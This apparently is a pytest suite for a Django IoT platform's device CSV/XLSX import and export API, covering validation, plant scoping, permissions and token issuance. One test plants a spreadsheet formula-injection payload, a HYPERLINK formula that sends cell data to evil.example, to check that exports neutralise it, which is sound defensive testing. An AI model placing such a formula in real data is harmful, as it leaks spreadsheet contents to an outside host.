"""POST /api/v1/devices/import/ and GET /api/v1/devices/export/: devices as CSV or XLSX, all or nothing."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.test import Client

from conftest import assert_status
from devices.models import Device, DeviceGroup, DeviceToken, TelemetryReading
from devices.tests.factories import make_group
from devices.tests.test_ingest_payload import post as send_telemetry
from devices.tests.test_mqtt_auth import auth_broker, managed  # noqa: F401 (fixtures)
from tests.mosquitto import connects

pytestmark = pytest.mark.django_db

IMPORT = "/api/v1/devices/import/"
EXPORT = "/api/v1/devices/export/"
HEADER = "uid,name,kind,plant,line,model,ideal_cycle_time,expected_interval,groups\n"


def state() -> tuple:
    """Everything an import may change: the device rows, group members, tokens."""
    devices = list(Device.objects.order_by("uid").values_list("uid", "name", "kind", "line_id", "ideal_cycle_time"))
    members = sorted(DeviceGroup.devices.through.objects.values_list("devicegroup_id", "device_id"))
    return devices, members, DeviceToken.objects.count()


def post_csv(client, text: str, query: str = ""):
    return client.post(f"{IMPORT}{query}", data=text.encode(), content_type="text/csv")


def csv_rows(*rows: str) -> str:
    return HEADER + "".join(row + "\n" for row in rows)


@pytest.fixture
def admin_api(client_for, plant_admin):
    return client_for(plant_admin)


@pytest.fixture
def night(plant_a):
    return make_group(plant_a, "Night")


GOOD = (
    "press-04,Press 4,machine,Plant A,Press line,HX-200,2.5,30,Night",  # new, on plant A's line
    "press-01,Press one renamed,,,Press line,HX-300,3.1,,",  # update by uid; blank kind keeps it
    "temp-01,Hall temperature,sensor,Plant A,,,,60,",  # new, in the plant but on no line
)


def test_dry_run_previews_each_row_and_changes_nothing(admin_api, presses, night, foreign):
    before = state()

    response = assert_status(post_csv(admin_api, csv_rows(*GOOD), "?dry_run=1"), 200)

    body = response.json()
    assert (body["dry_run"], body["valid"], body["applied"]) == (True, True, False)
    assert [(r["row"], r["uid"], r["action"]) for r in body["rows"]] == [
        (1, "press-04", "create"), (2, "press-01", "update"), (3, "temp-01", "create"),
    ]  # fmt: skip
    assert body["totals"] == {"create": 2, "update": 1, "unchanged": 0, "error": 0}
    assert state() == before


def test_apply_creates_and_updates_by_uid(admin_api, presses, night, line_a):
    response = assert_status(post_csv(admin_api, csv_rows(*GOOD)), 201)

    assert response.json()["applied"] is True and "tokens" not in response.json()
    new = Device.objects.get(uid="press-04")
    assert (new.name, new.line, new.plant, new.model) == ("Press 4", line_a, line_a.plant, "HX-200")
    assert (new.ideal_cycle_time, new.expected_interval, list(new.groups.all())) == (Decimal("2.5"), 30, [night])
    updated = Device.objects.get(uid="press-01")
    assert (updated.name, updated.model, updated.kind, updated.ideal_cycle_time) == (
        "Press one renamed", "HX-300", "machine", Decimal("3.1"),
    )  # fmt: skip
    sensor = Device.objects.get(uid="temp-01")
    assert (sensor.kind, sensor.line, sensor.plant) == ("sensor", None, line_a.plant)
    assert Device.objects.filter(uid__in=["press-04", "temp-01", "press-01"]).count() == 3


def test_one_bad_row_applies_nothing_and_answers_400_naming_each_bad_row(admin_api, presses, night):
    before = state()
    rows = csv_rows(*GOOD, "Bad UID!,Broken,machine,Plant A,Press line,,,,", "press-09,Nine,robot,Plant A,,,-1,,")

    response = assert_status(post_csv(admin_api, rows), 400)

    body = response.json()
    assert (body["valid"], body["applied"]) == (False, False)
    errors = {r["row"]: r["errors"] for r in body["rows"] if r["action"] == "error"}
    assert set(errors) == {4, 5}
    assert "uid" in errors[4] and "lowercase" in errors[4]["uid"][0]
    assert {"kind", "ideal_cycle_time"} <= set(errors[5])
    assert [r["action"] for r in body["rows"][:3]] == ["create", "update", "create"]
    assert state() == before


def test_rows_naming_another_plants_line_group_or_device_are_errors_not_imports(admin_api, presses, foreign, plant_b):
    make_group(plant_b, "Foreign group")
    before = state()
    rows = csv_rows(
        "press-05,Five,machine,Plant B,,,,,",  # another plant
        f"press-06,Six,machine,,{foreign.line_id},,,,",  # another plant's line by id
        "press-07,Seven,machine,Plant A,Foreign line,,,,",  # another plant's line by name
        "press-08,Eight,machine,Plant A,Press line,,,,Foreign group",  # another plant's group
        "foreign-01,Taken over,machine,Plant A,Press line,,,,",  # another plant's device's uid
    )

    body = assert_status(post_csv(admin_api, rows, "?dry_run=1"), 200).json()

    assert [r["action"] for r in body["rows"]] == ["error"] * 5
    assert "plant you administer" in body["rows"][0]["errors"]["plant"][0]
    assert "line" in body["rows"][1]["errors"] and "line" in body["rows"][2]["errors"]
    assert "Foreign group" in body["rows"][3]["errors"]["groups"][0]
    assert "uid" in body["rows"][4]["errors"]
    assert_status(post_csv(admin_api, rows), 400)
    assert state() == before
    assert Device.objects.get(uid="foreign-01").name == foreign.name


def test_issued_tokens_are_in_the_response_once_stored_hashed_and_authenticate_telemetry(admin_api, presses):
    rows = csv_rows("press-04,Press 4,machine,Plant A,Press line,,,,", "press-01,Press 1,,,,,,,")

    body = assert_status(post_csv(admin_api, rows, "?issue_tokens=1&token_name=fleet"), 201).json()

    [entry] = body["tokens"]  # only the created device gets a token
    assert entry["uid"] == "press-04"
    stored = DeviceToken.objects.get(device__uid="press-04")
    assert stored.name == "fleet" and entry["token"] not in (stored.key_hash, stored.prefix)
    assert_status(send_telemetry(Client(), entry["token"], {"values": {"temperature": 70.5}}), 202)
    assert TelemetryReading.objects.filter(device__uid="press-04").count() == 1
    listed = admin_api.get(f"/api/v1/devices/{stored.device_id}/tokens/").json()
    assert entry["token"] not in str(listed)


def test_multipart_xlsx_round_trip_through_export(admin_api, presses, night, line_a):
    Device.objects.filter(uid="press-02").update(model="HX-9", ideal_cycle_time=Decimal("1.250"))
    night.devices.add(presses[1])

    exported = assert_status(admin_api.get(f"{EXPORT}?format=xlsx"), 200)

    assert exported["Content-Type"].startswith("application/vnd.openxmlformats")
    book = openpyxl.load_workbook(io.BytesIO(exported.content))
    sheet = book.active
    header = [cell.value for cell in sheet[1]]
    rows = {row[0]: dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert set(rows) == {"press-01", "press-02", "press-03"}
    assert (rows["press-02"]["line"], rows["press-02"]["groups"], rows["press-02"]["model"]) == (
        "Press line", "Night", "HX-9",
    )  # fmt: skip
    # Edit one cell and import the workbook back: one update, the rest unchanged in the database.
    name_column = header.index("name") + 1
    for row in sheet.iter_rows(min_row=2):
        if row[0].value == "press-03":
            row[name_column - 1].value = "Press three (edited)"
    buffer = io.BytesIO()
    book.save(buffer)
    buffer.seek(0)
    buffer.name = "devices.xlsx"
    before = state()

    body = assert_status(admin_api.post(IMPORT, {"file": buffer}, format="multipart"), 201).json()

    assert body["totals"] == {"create": 0, "update": 1, "unchanged": 2, "error": 0}
    assert [r["action"] for r in body["rows"]] == ["unchanged", "unchanged", "update"]
    after = state()
    assert Device.objects.get(uid="press-03").name == "Press three (edited)"
    assert [d for d in after[0] if d[0] != "press-03"] == [d for d in before[0] if d[0] != "press-03"]
    assert after[1:] == before[1:]


def test_csv_export_is_scoped_to_the_users_plants_and_filters(admin_api, presses, foreign):
    text = assert_status(admin_api.get(f"{EXPORT}?format=csv"), 200).content.decode()

    assert text.splitlines()[0].startswith("uid,name,kind,plant,line")
    assert "press-01" in text and "foreign-01" not in text
    filtered = admin_api.get(f"{EXPORT}?format=csv&search=press-02").content.decode()
    assert "press-02" in filtered and "press-01" not in filtered


@pytest.mark.parametrize(("persona", "sees"), [("viewer", True), ("operator", True), ("outsider", False)])
def test_only_plant_admins_import_and_export_gives_what_each_user_sees(client_for, request, presses, persona, sees):
    client = client_for(request.getfixturevalue(persona))
    before = state()

    response = assert_status(post_csv(client, csv_rows(GOOD[0]), "?dry_run=1"), 403)

    assert "admin role" in response.json()["detail"]
    assert_status(post_csv(client, csv_rows(GOOD[0])), 403)
    assert state() == before
    exported = assert_status(client.get(EXPORT), 200).content.decode()
    assert ("press-01" in exported) is sees and exported.startswith("uid,name")
    anonymous = assert_status(client_for(None).get(f"{EXPORT}?format=xlsx"), 401)
    assert anonymous["Content-Type"] == "application/json" and "credentials" in anonymous.json()["detail"]


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "Send the CSV or XLSX file"),
        (b"name,kind\nPress,machine\n", "'uid'"),
        (b"uid,colour\npress-01,red\n", "Unknown column(s) colour"),
        (b"uid,name\n\xff\xfe,bad\n", "UTF-8"),
        (b"uid,name\n", "no devices"),
        (b"uid,name,uid\npress-09,Nine,press-10\n", "Column(s) uid appear more than once"),
        (b"uid,name\npress-09,Nine,extra\n", "Could not read the file"),
    ],
)
def test_an_unreadable_file_answers_400_saying_what_to_do(admin_api, presses, content, message):
    response = assert_status(admin_api.post(IMPORT, data=content, content_type="text/csv"), 400)

    assert message in str(response.json())


def test_imported_tokens_are_the_devices_mqtt_passwords_and_a_broker_down_imports_nothing(
    request, settings, plant_admin, client_for, line_a
):
    """With the platform managing the broker, each imported token lets its device connect at once."""
    mosquitto = request.getfixturevalue("managed")  # a real Mosquitto the platform provisions
    client = client_for(plant_admin)
    rows = csv_rows("press-04,Press 4,machine,Plant A,Press line,,,,", "press-05,Press 5,machine,Plant A,,,,,")

    body = assert_status(post_csv(client, rows, "?issue_tokens=1"), 201).json()

    tokens = {entry["uid"]: entry["token"] for entry in body["tokens"]}
    assert set(tokens) == {"press-04", "press-05"}
    assert connects(mosquitto.device_url, "press-04", tokens["press-04"])
    assert not connects(mosquitto.device_url, "press-04", tokens["press-05"])  # each its own
    before = state()
    settings.MQTT_URL = "mqtt://127.0.0.1:1"  # the broker is down: the import says so and applies nothing
    down = assert_status(post_csv(client, csv_rows("press-06,Six,machine,Plant A,,,,,"), "?issue_tokens=1"), 503)
    assert "Nothing was changed" in down.json()["detail"]
    assert state() == before


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_export_never_hands_a_spreadsheet_a_formula_and_imports_back_unchanged(admin_api, presses, file_format):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    Device.objects.filter(uid="press-01").update(name=formula, description="-1+2 \x07bell")

    exported = assert_status(admin_api.get(f"{EXPORT}?format={file_format}"), 200).content

    if file_format == "csv":
        cells = list(csv.reader(io.StringIO(exported.decode())))[1]
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(exported)).active
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)  # no formula cell
        cells = [cell.value for cell in sheet[2]]
    assert cells[1] == "'" + formula
    body = admin_api.post(IMPORT, {"file": io.BytesIO(exported)}, format="multipart")
    assert assert_status(body, 201).json()["rows"][0]["action"] == ("unchanged" if file_format == "csv" else "update")
    device = Device.objects.get(uid="press-01")
    assert device.name == formula


def test_a_uid_twice_in_the_file_and_a_row_without_plant_say_what_to_fix(admin_api, presses):
    rows = csv_rows(
        "press-09,Nine,machine,Plant A,,,,,",
        "press-09,Nine again,machine,Plant A,,,,,",
        "press-10,Ten,machine,,Nope,,,,",
        "press-11,Eleven,machine,,,,,,",
    )

    body = assert_status(post_csv(admin_api, rows), 400).json()

    errors = [r.get("errors") for r in body["rows"]]
    assert errors[0] is None
    assert errors[1] == {"uid": ["uid 'press-09' is also in row 1: one row per device."]}
    assert errors[2]["plant"] == ["No plant for this device: fix the line."] and "'Nope'" in errors[2]["line"][0]
    assert errors[3] == {"plant": ["No plant for this device: give the device's plant or line (name or id)."]}
    assert not Device.objects.filter(uid__in=["press-09", "press-10", "press-11"]).exists()
